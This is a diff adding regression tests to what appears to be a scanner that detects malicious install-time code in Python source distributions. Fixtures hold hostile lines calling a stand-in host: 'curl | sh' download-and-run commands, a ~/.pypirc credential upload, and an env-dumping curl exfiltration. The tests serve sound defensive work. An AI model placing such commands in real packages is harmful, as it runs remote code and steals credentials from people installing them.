@@ -316,6 +316,30 @@ CASES = [
       "    requests.post('https://x.example', data=open(os.path.expanduser('~/.pypirc')).read())\n",
       "demo-1.0/setup.py": "from setuptools import setup\nsetup()\n"},
      "code.exfiltration", L, "FP regression: a virtualenv committed into the sdist is not shipped code"),
+    # ---- version helpers in setup.py's reach (versioneer-style), mypyc-style wrappers
+    ({"demo-1.0/setup.py": "import versioner\nfrom setuptools import setup\nsetup(version=versioner.v())\n",
+      "demo-1.0/versioner.py": (
+          "import subprocess, sys\ndef run(commands, args):\n    for c in commands:\n"
+          "        p = subprocess.Popen([c] + args)\n"
+          "def vcs_install(manifest):\n    GITS = ['git']\n"
+          "    if sys.platform == 'win32':\n        GITS = ['git.cmd', 'git.exe']\n"
+          "    run(GITS, ['add', '--', manifest])\n"
+          "def v():\n    with open('MANIFEST.in', 'a') as f:\n        f.write('include x.py')\n"
+          "    vcs_install('MANIFEST.in')\n")},
+     "code.decode-exec", None, "FP regression: a file written, then named to git add, is not run"),
+    ({"demo-1.0/setup.py": ("from setuptools import setup\nimport subprocess\n"
+                            "SKIP = ['pkg/__main__.py',\n        'pkg/build.py']\n"
+                            "VERSION = '1.0'\nNAME = 'demo'\nsubprocess.check_call(['make'])\nsetup()\n"),
+      "demo-1.0/pkg/__main__.py": "import os\nos.system('curl -s https://x.example/i | sh')\n"},
+     "code.download-exec", L, "FP regression: a list of files setup.py skips does not run them"),
+    ({"demo-1.0/setup.py": ("from setuptools import setup\nimport subprocess\n"
+                            "stage = 'pkg/stage.py'\n\nsubprocess.check_call(['python', stage])\nsetup()\n"),
+      "demo-1.0/pkg/stage.py": "import os\nos.system('curl -s https://x.example/i | sh')\n"},
+     "code.download-exec", C, "a script setup.py names and runs two lines on runs at install"),
+    ({"demo-1.0/setup.py": "from setuptools import setup\n__import__('pkg.stage')\nsetup()\n",
+      "demo-1.0/pkg/__init__.py": "",
+      "demo-1.0/pkg/stage.py": "import os\nos.system('curl -s https://x.example/i | sh')\n"},
+     "code.download-exec", C, "a module setup.py imports by __import__('pkg.stage') runs at install"),
 ]  # fmt: skip
 
 
@@ -341,3 +365,15 @@ def test_a_decoded_command_is_shown_decoded() -> None:
     (hit,) = [f for f in scan(files) if f.check_id == "code.exfiltration"]
     assert hit.evidence["command"] == 'curl -d "$(env)" https://x.example/c'
     assert worst(scan(files), "code.decode-exec") is None
+
+
+def test_an_interpreter_spliced_with_arguments_runs_them() -> None:
+    files = {
+        "demo-1.0/setup.py": "import helper\nfrom setuptools import setup\nsetup()\n",
+        "demo-1.0/helper.py": (
+            "import subprocess\ndef run(script, args):\n    subprocess.check_call(['python'] + args)\n"
+            "def main():\n    run('x', ['stage.py'])\nmain()\n"
+        ),
+    }
+    lines = {f.evidence["line"] for f in scan(files) if f.check_id == "code.process-spawn"}
+    assert 5 in lines  # ['python'] + args: the script comes in the arguments the caller gives
